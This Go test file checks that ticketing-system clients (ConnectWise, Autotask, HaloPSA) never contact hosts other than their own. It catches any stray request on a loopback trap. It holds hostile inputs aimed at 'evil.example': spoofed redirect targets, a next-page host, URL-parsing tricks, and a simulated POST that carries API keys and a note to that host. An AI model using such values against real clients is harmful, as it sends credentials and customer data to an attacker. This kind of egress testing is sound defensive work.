package endtoend

import (
	"bytes"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	"github.com/psasync/psasync/internal/canary"
	"github.com/psasync/psasync/psa"
)

// A trap is a server on loopback that every name leads to but those of one
// account. It answers whatever it is asked.
type trap struct {
	srv   *httptest.Server
	watch *watch
	mu    sync.Mutex
	hits  []string
}

func newTrap(t *testing.T, w *watch) *trap {
	t.Helper()
	p := &trap{watch: w}
	p.srv = httptest.NewServer(http.HandlerFunc(func(out http.ResponseWriter, r *http.Request) {
		body, err := io.ReadAll(r.Body)
		w.tell(elsewhere, "%s %s %s %v %s %v", r.Method, r.Host, r.URL, r.Header, body, err)
		p.mu.Lock()
		p.hits = append(p.hits, r.Method+" "+r.Host)
		p.mu.Unlock()
		out.Header().Set("Content-Type", "application/json")
		_, _ = io.WriteString(out, `{"access_token":"x","token_type":"Bearer","items":[],"id":1}`)
	}))
	t.Cleanup(p.srv.Close)
	return p
}

// caught returns what came since the last call.
func (p *trap) caught() []string {
	p.mu.Lock()
	defer p.mu.Unlock()
	hits := p.hits
	p.hits = nil
	return hits
}

// route leads what the account does not know to the trap.
func (p *trap) route(own http.RoundTripper) http.RoundTripper {
	return roundTripper(func(r *http.Request) (*http.Response, error) {
		var body []byte
		if r.Body != nil {
			var err error
			if body, err = io.ReadAll(r.Body); err != nil {
				return nil, err
			}
		}
		again := func() *http.Request {
			c := r.Clone(r.Context())
			c.Body = io.NopCloser(bytes.NewReader(body))
			return c
		}
		resp, err := own.RoundTrip(again())
		if err == nil || !strings.Contains(err.Error(), "no such host") {
			return resp, err
		}
		c := again()
		c.Host = r.URL.Host
		c.URL.Scheme, c.URL.Host, c.URL.User = "http", strings.TrimPrefix(p.srv.URL, "http://"), nil
		return p.srv.Client().Transport.RoundTrip(c)
	})
}

// strange are answers of the first request of each vendor, which tells where the
// account is, that tell of another place.
func strange(vendor string) []string {
	switch vendor {
	case "connectwise":
		var out []string
		for _, codebase := range []string{"https://evil.example/", "//evil.example/", "../../../evil.example/", "@evil.example/", `\\evil.example\`, "v2025_1/../../..//evil.example/"} {
			out = append(out, fmt.Sprintf(`{"CompanyName":"x","Codebase":%q,"VersionCode":"v2025.1","CompanyID":"x","IsCloud":true,"SiteUrl":"evil.example"}`, codebase))
		}
		return out
	case "autotask":
		var out []string
		for _, zone := range []string{
			"https://evil.example/ATServicesRest/", "https://webservices3.autotask.net.evil.example/ATServicesRest/", "https://webservices3.autotask.net@evil.example/ATServicesRest/",
			"http://webservices3.autotask.net/ATServicesRest/", "https://evil-autotask.net/ATServicesRest/", "//evil.example/ATServicesRest/", `https://evil.example\.autotask.net/`, "https://webservices3.autotask.net:8443/ATServicesRest/",
		} {
			out = append(out, fmt.Sprintf(`{"zoneName":"x","url":%q,"webUrl":"https://evil.example/","ci":1}`, zone))
		}
		return out
	default: // another server over https is what authinfo is for, see halopsa.Config.AuthURL
		return []string{`{"auth_url":"http://evil.example/auth","tenant_id":"x"}`, `{"auth_url":"https://a:b@evil.example/auth","tenant_id":"x"}`, `{"auth_url":"//evil.example/auth"}`, `{"auth_url":"ftp://evil.example"}`}
	}
}

// TestEgress leads each provider to other hosts in every way that a server can:
// nobody hears of it, with credentials or without.
func TestEgress(t *testing.T) {
	for _, v := range psaVendors() {
		t.Run(v.name, func(t *testing.T) {
			t.Parallel()
			b := v.open(t)
			w := watchOver(t, b.sim)
			p := newTrap(t, w)
			b.route = p.route
			ctx := w.trace(t.Context())
			id := b.ticket("warm")
			ref := psa.Ref{Kind: psa.KindTicket, ID: itoa(id)}

			// use does all that a provider does, and reports whether all failed.
			use := func(what string, s psa.Provider) (failed bool) {
				t.Helper()
				failed = true
				see := func(err error) {
					w.failed(err)
					failed = failed && err != nil
				}
				for _, err := range s.List(ctx, psa.KindTicket, psa.Query{}) {
					see(err)
				}
				_, err := s.Get(ctx, ref)
				see(err)
				_, err = s.(psa.Creator).Create(ctx, psa.KindNote, psa.Fields{"ticket": psa.Fields{"id": ref.ID}, "text": privately, "visibility": string(psa.Internal)}, psa.NotifyNone)
				see(err)
				_, err = s.(psa.Updater).Update(ctx, ref, psa.Patch{Set: psa.Fields{"summary": what}})
				see(err)
				if hits := p.caught(); len(hits) > 0 {
					t.Errorf("%s: %v", what, hits)
				}
				return failed
			}
			fresh, warm := b.open(), b.open()
			if _, err := warm.Get(ctx, ref); err != nil {
				t.Fatal(err)
			}
			if use("nothing strange", warm) {
				t.Error("everything fails, also where nothing is strange")
			}

			for _, status := range []int{301, 302, 303, 307, 308} {
				for _, to := range []string{"https://evil.example/x?y=z", "http://evil.example/", "//evil.example/"} {
					what := fmt.Sprintf("%d to %s", status, to)
					b.sim.Fail(everywhere(fault{Status: status, Header: map[string]string{"Location": to}}))
					if !use(what+", at once", fresh) || !use(what+", in the middle", warm) {
						t.Errorf("%s: not everything fails", what)
					}
					b.sim.Heal()
				}
			}
			b.sim.Fail(everywhere(route(b.listed, fault{CapPage: 3, NextHost: "evil.example"})))
			use("next page", warm)
			b.sim.Heal()
			for _, body := range strange(v.name) {
				b.sim.Fail(fault{Count: -1, Path: map[string]string{"connectwise": "/login/companyinfo/*", "autotask": "/zoneInformation", "halopsa": "/AuthInfo"}[v.name],
					Status: http.StatusOK, Body: body, Header: map[string]string{"Content-Type": "application/json"}})
				before := len(b.sim.Requests())
				use(body, b.open())
				if faulty := b.sim.Requests()[before:]; len(faulty) == 0 || !faulty[0].Fault {
					t.Errorf("%s: it was not answered: %+v", body, faulty[:min(len(faulty), 1)])
				}
				b.sim.Heal()
			}
			if n := len(b.sim.Strays()); n > 0 {
				t.Errorf("%d requests to other hosts", n)
			}
		})
	}
}

// TestTrap: what reaches another host is seen, with what it carries.
func TestTrap(t *testing.T) {
	b := psaVendors()[0].open(t)
	w := newWatch(t)
	var leaked []string
	w.leaked = func(in place, h canary.Hit) { leaked = append(leaked, string(in)+": "+h.What) }
	w.plant(valuesOf(b.sim)...)
	p := newTrap(t, w)
	own := roundTripper(func(r *http.Request) (*http.Response, error) { return nil, fmt.Errorf("no such host") })
	req, err := http.NewRequestWithContext(t.Context(), http.MethodPost, "https://evil.example/x", strings.NewReader("canary-internal-note-8b21"))
	if err != nil {
		t.Fatal(err)
	}
	req.SetBasicAuth("summitmsp+simPublicKey0001", "simPrivateKey001")
	resp, err := p.route(own).RoundTrip(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if err := w.look(); err != nil {
		t.Fatal(err)
	}
	if hits := p.caught(); len(hits) != 1 || hits[0] != "POST evil.example" {
		t.Errorf("%v", hits)
	}
	said := strings.Join(leaked, "; ")
	for _, want := range []string{"company and keys", "ServiceNote.text"} {
		if !strings.Contains(said, string(elsewhere)+": "+want) {
			t.Errorf("%s is not seen, only %s", want, said)
		}
	}
}
